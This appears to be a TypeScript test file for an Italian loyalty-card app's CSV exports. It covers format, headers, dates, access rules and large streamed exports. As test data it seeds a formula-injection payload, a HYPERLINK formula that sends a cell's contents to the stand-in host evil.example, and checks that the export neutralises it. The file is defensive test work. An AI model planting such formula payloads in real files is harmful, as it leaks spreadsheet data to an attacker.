@@ -1,0 +1,219 @@
+/**
+ * Issue 22: the admin's CSV exports of a shop's cards and ledger (docs/decisions/043-csv-export.md): the
+ * bytes (BOM, `;`, CRLF, RFC 4180 quoting), Italian headers, dates and decimals, formula injection
+ * neutralised while numbers stay numbers, who may download, and a 20 000-card export streamed over real
+ * HTTP (time and memory printed, never asserted).
+ */
+import { parse } from 'csv-parse/sync';
+import { authHeader, createUser, demoAccount, startTestApp, type TestApp } from './helpers/app';
+import { describeEachDatabase } from './helpers/databases';
+import { CLIENT, createClientWithCard, createOtherAdmin, OTHER_ADMIN, OTHER_BUSINESS_ID } from './helpers/fixtures';
+import { DEMO_BUSINESSES } from '../src/seed/demo';
+
+const BAR = DEMO_BUSINESSES[0].id;
+const NOW = new Date('2026-03-10T12:00:00Z');
+const SHOP = OTHER_BUSINESS_ID; // 'Libreria Altrove', owned by OTHER_ADMIN
+const BOM = '\uFEFF';
+
+const CARD_HEADER =
+  'Numero carta;Nome;Email;Telefono;Punti;Punti in scadenza entro 30 giorni;Data di nascita;Creata il;' +
+  'Consenso marketing WhatsApp;Consenso marketing SMS;Consenso marketing email';
+const LEDGER_HEADER = 'Data;Numero carta;Cliente;Tipo;Punti;Premio;Descrizione;Operatore';
+
+/** The records of a file as a spreadsheet reads them (csv-parse, RFC 4180), header first. */
+const records = (body: string): string[][] => parse(body, { delimiter: ';', bom: true, record_delimiter: '\r\n', relax_column_count: false });
+
+describeEachDatabase('CSV export of cards and ledger', (variant) => {
+  let t: TestApp;
+  let owner: { authorization: string };
+  let demoAdmin: { authorization: string };
+  let superAdmin: { authorization: string };
+  let client: { authorization: string };
+
+  beforeAll(async () => {
+    t = await startTestApp(variant, { seedDemo: true, messaging: { worker: { enabled: false } } }, { clock: () => NOW });
+    const shopAdmin = await createOtherAdmin(t.app);
+    await createClientWithCard(t.app, BAR);
+    owner = await authHeader(t.app, OTHER_ADMIN.email, OTHER_ADMIN.password);
+    demoAdmin = await authHeader(t.app, demoAccount('admin').email, demoAccount('admin').password);
+    superAdmin = await authHeader(t.app, demoAccount('super_admin').email, demoAccount('super_admin').password);
+    client = await authHeader(t.app, CLIENT.email, CLIENT.password);
+    const staff = await createUser(t.app, { email: 'cassa@test.it', role: 'admin', full_name: '@Cassa; "uno"' });
+
+    // Points expire after a month since 2020: the lots of March 2026 expire within 30 days of NOW.
+    await t.app.db.query(`UPDATE businesses SET expiry_months = 1, expiry_since = '2020-01-01' WHERE id = $1`, [SHOP]);
+    await t.app.db.query(
+      `INSERT INTO loyalty_cards (id, business_id, card_number, customer_name, customer_phone, email, birth_date, points, marketing_channels, created_at) VALUES
+         ('k1', $1, 'LC-00000001', '=HYPERLINK("http://evil.example/?"&A1;"Clicca")', '+393331234567', '@mario@example.it', '1990-05-17', 14, '{whatsapp,email}', '2026-01-15 09:30:00+00'),
+         ('k2', $1, 'LC-00000002', E'Rossi; "Mario"\\nsecondo rigo', NULL, NULL, NULL, 7.25, '{}', '2026-02-01 23:15:00+00'),
+         ('k3', $1, 'LC-00000003', E'\\tTab', '+41 44 123 45 67', 'x@y.it', '2000-12-31', 0, '{sms}', '2026-02-01 23:15:00+00'),
+         ('k4', $1, 'LC-00000004', '-2+3', NULL, NULL, NULL, 0, '{whatsapp,sms,email}', '2026-03-01 08:00:00+00')`,
+      [SHOP],
+    );
+    await t.app.db.query(
+      `INSERT INTO points_ledger (id, card_id, points, kind, description, author_id, reward_name, lot_id, once_key, created_at) VALUES
+         (900001, 'k1', 20, 'credit', 'Spesa', $1, NULL, NULL, NULL, '2026-02-28 09:00:00+00'),
+         (900002, 'k1', 4, 'birthday', 'Buon compleanno', NULL, NULL, NULL, 'birthday:k1:2026', '2026-03-05 23:30:00+00'),
+         (900003, 'k1', -5, 'adjustment', '=1+1', $2, NULL, NULL, NULL, '2026-03-06 10:00:00+00'),
+         (900004, 'k1', -3, 'redemption', 'Premio', $1, 'Caffè "doppio"', NULL, NULL, '2026-03-07 10:00:00+00'),
+         (900005, 'k1', -2, 'expiry', 'Punti scaduti', NULL, NULL, 900001, NULL, '2026-03-08 10:00:00+00'),
+         (900006, 'k2', 7.25, 'credit', '+ bonus', $1, NULL, NULL, NULL, '2026-03-08 10:00:00+00')`,
+      [shopAdmin.id, staff.id],
+    );
+  });
+  afterAll(() => t.close());
+
+  const get = (url: string, headers: Record<string, string>) => t.app.inject({ method: 'GET', url, headers });
+
+  it('exports the cards: BOM, `;`, CRLF, Italian headers, dates and decimals, consent per channel, formulas neutralised', async () => {
+    const response = await get(`/api/loyalty-cards/business/${SHOP}/export.csv`, owner);
+    expect(response.statusCode).toBe(200);
+    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
+    expect(response.headers['content-disposition']).toBe('attachment; filename="carte-libreria-altrove-2026-03-10.csv"');
+    expect(response.headers['cache-control']).toBe('no-store');
+
+    const raw = response.rawPayload;
+    expect([...raw.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const body = raw.toString('utf8');
+    expect(body.startsWith(`${BOM}${CARD_HEADER}\r\n`)).toBe(true);
+    expect(body.endsWith('\r\n')).toBe(true);
+    // Every line break ends a record or sits inside a quoted cell (k2's name): no bare LF elsewhere.
+    expect(body.replace(/\r\n/g, '').replace('\nsecondo', '')).not.toMatch(/[\r\n]/);
+
+    expect(records(body)).toEqual([
+      CARD_HEADER.split(';'),
+      // Newest first. Balance 14; lots: 20 (left 10) and 4, both expiring before 9 April: 14.
+      ['LC-00000004', "'-2+3", '', '', '0', '0', '', '01/03/2026 09:00:00', 'sì', 'sì', 'sì'],
+      // Same instant: by id. 00:15 in Rome is the next day.
+      ['LC-00000002', 'Rossi; "Mario"\nsecondo rigo', '', '', '7,25', '7,25', '', '02/02/2026 00:15:00', 'no', 'no', 'no'],
+      ['LC-00000003', "'\tTab", 'x@y.it', "'+41 44 123 45 67", '0', '0', '31/12/2000', '02/02/2026 00:15:00', 'no', 'sì', 'no'],
+      [
+        'LC-00000001',
+        `'=HYPERLINK("http://evil.example/?"&A1;"Clicca")`,
+        "'@mario@example.it",
+        "'+393331234567",
+        '14',
+        '14',
+        '17/05/1990',
+        '15/01/2026 10:30:00',
+        'sì',
+        'no',
+        'sì',
+      ],
+    ]);
+    // RFC 4180 on the wire: a cell with `;`, `"` or a line break is quoted, its quotes doubled.
+    expect(body).toContain(`;"Rossi; ""Mario""\nsecondo rigo";`);
+    expect(body).toContain(`;"'=HYPERLINK(""http://evil.example/?""&A1;""Clicca"")";`);
+  });
+
+  it('exports the ledger oldest first with the Italian kinds; negative points stay numbers, text formulas are neutralised', async () => {
+    const response = await get(`/api/loyalty-cards/business/${SHOP}/ledger.csv`, superAdmin);
+    expect(response.statusCode).toBe(200);
+    expect(response.headers['content-disposition']).toBe('attachment; filename="movimenti-libreria-altrove-2026-03-10.csv"');
+    expect(response.headers['cache-control']).toBe('no-store');
+    const body = response.rawPayload.toString('utf8');
+    expect(body.startsWith(`${BOM}${LEDGER_HEADER}\r\n`)).toBe(true);
+    const rows = records(body);
+    expect(rows).toEqual([
+      LEDGER_HEADER.split(';'),
+      ['28/02/2026 10:00:00', 'LC-00000001', "'=HYPERLINK(\"http://evil.example/?\"&A1;\"Clicca\")", 'accredito', '20', '', 'Spesa', 'Altro Admin'],
+      ['06/03/2026 00:30:00', 'LC-00000001', "'=HYPERLINK(\"http://evil.example/?\"&A1;\"Clicca\")", 'bonus compleanno', '4', '', 'Buon compleanno', ''],
+      ['06/03/2026 11:00:00', 'LC-00000001', "'=HYPERLINK(\"http://evil.example/?\"&A1;\"Clicca\")", 'rettifica', '-5', '', "'=1+1", '\'@Cassa; "uno"'],
+      ['07/03/2026 11:00:00', 'LC-00000001', "'=HYPERLINK(\"http://evil.example/?\"&A1;\"Clicca\")", 'riscatto', '-3', 'Caffè "doppio"', 'Premio', 'Altro Admin'],
+      ['08/03/2026 11:00:00', 'LC-00000001', "'=HYPERLINK(\"http://evil.example/?\"&A1;\"Clicca\")", 'scadenza', '-2', '', 'Punti scaduti', ''],
+      ['08/03/2026 11:00:00', 'LC-00000002', 'Rossi; "Mario"\nsecondo rigo', 'accredito', '7,25', '', "'+ bonus", 'Altro Admin'],
+    ]);
+    // A negative number is written bare (a number for Excel), never behind a quote mark.
+    expect(body).toContain(';rettifica;-5;;');
+  });
+
+  it('lets only the admin of the shop and the super admin download; another shop, a client, nobody: refused, nothing in the body', async () => {
+    for (const file of ['export.csv', 'ledger.csv']) {
+      const url = `/api/loyalty-cards/business/${SHOP}/${file}`;
+      const other = await get(url, demoAdmin);
+      expect([other.statusCode, other.json()]).toEqual([404, { error: 'Azienda non trovata' }]);
+      expect(other.headers['content-disposition']).toBeUndefined();
+      expect((await get(url, client)).statusCode).toBe(403);
+      expect((await get(url, {})).statusCode).toBe(401);
+      expect((await get(`/api/loyalty-cards/business/non-esiste/${file}`, superAdmin)).statusCode).toBe(404);
+      expect((await get(url, superAdmin)).statusCode).toBe(200);
+    }
+  });
+
+  it('exports a shop without cards as the header alone', async () => {
+    await t.app.db.query(`INSERT INTO businesses (id, name, owner_id) SELECT 'vuoto', 'Caffè Ré & C.', owner_id FROM businesses WHERE id = $1`, [SHOP]);
+    const cards = await get('/api/loyalty-cards/business/vuoto/export.csv', owner);
+    expect(cards.headers['content-disposition']).toBe('attachment; filename="carte-caffe-re-c-2026-03-10.csv"');
+    expect(cards.rawPayload.toString('utf8')).toBe(`${BOM}${CARD_HEADER}\r\n`);
+    const ledger = await get('/api/loyalty-cards/business/vuoto/ledger.csv', owner);
+    expect(ledger.rawPayload.toString('utf8')).toBe(`${BOM}${LEDGER_HEADER}\r\n`);
+  });
+
+  it('streams 20 000 cards and their ledger over HTTP in batches, every row once', async () => {
+    const n = 20_000;
+    await t.app.db.query(`INSERT INTO businesses (id, name, owner_id) SELECT 'grande', 'Grande Magazzino', owner_id FROM businesses WHERE id = $1`, [SHOP]);
+    // Many cards share one instant, so the keyset's tie-break on the id is exercised across batches.
+    await t.app.db.query(
+      `INSERT INTO loyalty_cards (id, business_id, card_number, customer_name, customer_phone, points, created_at)
+       SELECT 'g' || i, 'grande', 'LC-' || lpad(i::text, 8, '0'), 'Cliente ' || i, '+39333' || lpad(i::text, 7, '0'), i % 500,
+              timestamptz '2026-01-01 00:00:00+00' + ((i / 7) * interval '1 second')
+         FROM generate_series(1, $1::int) AS i`,
+      [n],
+    );
+    await t.app.db.query(
+      `INSERT INTO points_ledger (card_id, points, kind, description, created_at)
+       SELECT 'g' || i, 1 + i % 500, 'credit', 'Spesa', timestamptz '2026-01-02 00:00:00+00' + ((i / 3) * interval '1 second')
+         FROM generate_series(1, $1::int) AS i`,
+      [n],
+    );
+    // Another shop's cards and ledger rows, interleaved in time with the big shop's: none may come out.
+    await t.app.db.query(`INSERT INTO businesses (id, name, owner_id) SELECT 'altro', 'Altro', owner_id FROM businesses WHERE id = $1`, [SHOP]);
+    await t.app.db.query(
+      `INSERT INTO loyalty_cards (id, business_id, card_number, customer_name, created_at)
+       SELECT 'a' || i, 'altro', 'ALTRO-' || i, 'Altro cliente', timestamptz '2026-01-01 00:00:00+00' + ((i / 5) * interval '1 second')
+         FROM generate_series(1, 5000) AS i`,
+    );
+    await t.app.db.query(
+      `INSERT INTO points_ledger (card_id, points, kind, description, created_at)
+       SELECT 'a' || i, 1, 'credit', 'Altro', timestamptz '2026-01-02 00:00:00+00' + ((i / 2) * interval '1 second') FROM generate_series(1, 5000) AS i`,
+    );
+    // No ANALYZE: right after a bulk insert (an import) the planner has no statistics, and the batches must still
+    // walk the indexes (decision 043).
+    const address = await t.app.listen({ port: 0, host: '127.0.0.1' });
+    for (const [file, expectedRows] of [
+      ['export.csv', n],
+      ['ledger.csv', n],
+    ] as const) {
+      global.gc?.();
+      const rssBefore = process.memoryUsage().rss;
+      let peak = rssBefore;
+      const started = performance.now();
+      const response = await fetch(`${address}/api/loyalty-cards/business/grande/${file}`, { headers: owner });
+      expect(response.status).toBe(200);
+      // Counted as the bytes arrive, never held whole; the numbers must come once each.
+      const decoder = new TextDecoder();
+      let lines = 0;
+      let rest = '';
+      let chunks = 0;
+      const seen = new Set<string>();
+      for await (const chunk of response.body!) {
+        chunks += 1;
+        const text = rest + decoder.decode(chunk, { stream: true });
+        const parts = text.split('\r\n');
+        rest = parts.pop()!;
+        for (const line of parts) {
+          lines += 1;
+          if (lines > 1) seen.add(line.split(';')[file === 'export.csv' ? 0 : 1]);
+        }
+        peak = Math.max(peak, process.memoryUsage().rss);
+      }
+      const ms = performance.now() - started;
+      expect(rest).toBe('');
+      expect(lines).toBe(expectedRows + 1);
+      expect(seen.size).toBe(expectedRows);
+      console.log(
+        `[${variant.name}] ${file}: ${expectedRows} rows in ${ms.toFixed(0)} ms, ${chunks} chunks, peak RSS growth ${((peak - rssBefore) / 1024 / 1024).toFixed(1)} MB`,
+      );
+    }
+  }, 120_000);
+});
